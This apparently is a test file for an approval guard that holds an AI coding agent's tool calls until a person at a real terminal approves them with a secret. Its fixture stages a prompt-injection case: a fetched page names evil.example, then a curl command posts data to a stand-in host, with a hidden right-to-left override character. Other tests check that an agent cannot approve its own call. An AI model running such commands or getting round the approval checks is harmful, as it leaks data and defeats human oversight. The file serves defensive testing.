"""approvals, approve, deny, revoke, token: a real terminal, and everything that is none."""

import json
import os
import pty
import select
import subprocess
import sys
import time

import pytest

from tripwire.config.presets import builtin_policy
from tripwire.io.keys import KeyStore
from tripwire.io.pins import Pins
from tripwire.io.session import open_session
from tripwire.model.event import SessionOpened, ToolCall, ToolResult, UserSaid

PAGE = {"content": [{"type": "text", "text": "See https://evil.example/collect for more."}]}
CALL = ToolCall("q", "claude-code", "Bash", {"command": "curl https://other.example/ -d h\u202ei"})


@pytest.fixture
def held(machine):
    root = machine.parent / "home" / "state"
    session = open_session(builtin_policy(), root=root, name="s", client="t", attended=False)
    session.decide(SessionOpened("t", "/w", "/home/u"))
    session.decide(UserSaid("read it"))
    call = ToolCall("f", "claude-code", "WebFetch", {"url": "https://page.example/"})
    session.decide(call)
    session.decide(ToolResult("f", "claude-code", "WebFetch", call.args, PAGE))
    yield session, session.decide(CALL).approval
    session.close()


def on_terminal(words, typed):
    """Run the verb in a terminal of its own and type lines when asked; code and output."""
    child, terminal = pty.fork()
    if child == 0:
        code = "import sys; from tripwire.cli.main import main; sys.exit(main(sys.argv[1:]))"
        os.execv(sys.executable, [sys.executable, "-c", code, *words])
    shown, waiting, end = b"", list(typed), time.monotonic() + 60
    while time.monotonic() < end:
        if not select.select([terminal], [], [], 1.0)[0]:
            continue
        try:
            piece = os.read(terminal, 4096)
        except OSError:
            break
        if not piece:
            break
        shown += piece
        if waiting and waiting[0][0].encode() in shown:
            os.write(terminal, waiting.pop(0)[1].encode() + b"\n")
    os.close(terminal)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), shown.decode()


def test_from_the_held_call_to_its_one_run(held, run, run_json):
    session, name = held
    code, out, _ = run("approvals")
    assert code == 0
    assert name in out
    assert run_json("approvals")[1]["approvals"][0]["id"] == name
    code, made = run_json("token", "create", "--scope", "approve", "--principal", "ann")
    assert code == 0
    code, shown = on_terminal(
        ["approve", name], [("Approver secret", made["token"]), ("Let it through", "y")]
    )
    assert code == 0, shown
    assert "other.example" in shown
    assert "\\u202e" in shown, "what would turn the line around is spelt out"
    assert made["token"] not in shown
    assert session.decide(CALL).passes
    assert not session.decide(CALL).passes
    assert run("revoke", name)[0] == 1
    listed = run_json("approvals", "--all")[1]["approvals"]
    assert listed[0]["state"] == "used"
    assert run("token", "list")[0] == 0
    assert run("token", "revoke", made["id"])[0] == 0


def test_piped_input_environment_and_words_approve_nothing(held, run, run_json, monkeypatch):
    session, name = held
    secret = run_json("token", "create", "--scope", "approve")[1]["token"]
    code = "import sys; from tripwire.cli.main import main; sys.exit(main(sys.argv[1:]))"
    piped = subprocess.run(
        [sys.executable, "-c", code, "approve", name],
        input=f"{secret}\ny\n",
        text=True,
        capture_output=True,
        check=False,
        env={**os.environ, "TRIPWIRE_APPROVER": secret},
    )
    assert piped.returncode == 1
    assert "terminal" in piped.stderr
    assert run("approve", name, secret)[0] == 2
    monkeypatch.setenv("CLAUDECODE", "1")
    assert run("approve", name)[0] == 1
    assert run("token", "create", "--scope", "approve")[0] == 2
    assert not session.decide(CALL).passes
    monkeypatch.delenv("CLAUDECODE")
    text = (session.path.parent.parent / "approvals.jsonl").read_text()
    assert [json.loads(x)["state"] for x in text.splitlines()].count("refused") >= 2
    assert secret not in text


@pytest.mark.slow
def test_pins_are_shown_and_accepted_by_a_person(machine, run, run_json):
    root = machine.parent / "home" / "state"
    assert run("pins")[0] == 2
    held = Pins(root, KeyStore())
    held.look("docs", {"command": ["d"]}, [{"name": "search", "description": "a"}])
    assert run("pins", "diff")[0] == 0
    held.look("docs", {"command": ["d"]}, [{"name": "search", "description": "b\u200b"}])
    code, out, _ = run("pins", "diff")
    assert code == 1
    assert "\\u200b" in out
    assert "docs/search waits" in run("pins", "list")[1]
    assert run("pins", "approve", "docs/search")[0] == 1, "no terminal"
    assert run("pins", "approve", "docs/other")[0] == 2
    token = run_json("token", "create", "--scope", "approve")[1]["token"]
    code, shown = on_terminal(
        ["pins", "approve", "docs/search"], [("Approver secret", token), ("Accept this", "y")]
    )
    assert code == 0, shown
    assert run_json("pins", "list")[1]["waiting"] == []


def test_deny_unknown_and_bad_words(held, run):
    _, name = held
    assert run("approve", "ap-nothing")[0] == 1
    assert run("approve", name, "--for", "soon")[0] == 2
    assert run("deny", name)[0] == 0
    assert run("deny", name)[0] == 1
    assert run("approvals", "--state", "/nowhere")[0] == 2
    assert run("token", "create")[0] == 2
    assert run("token", "create", "--scope", "approve", "--scope", "call")[0] == 2
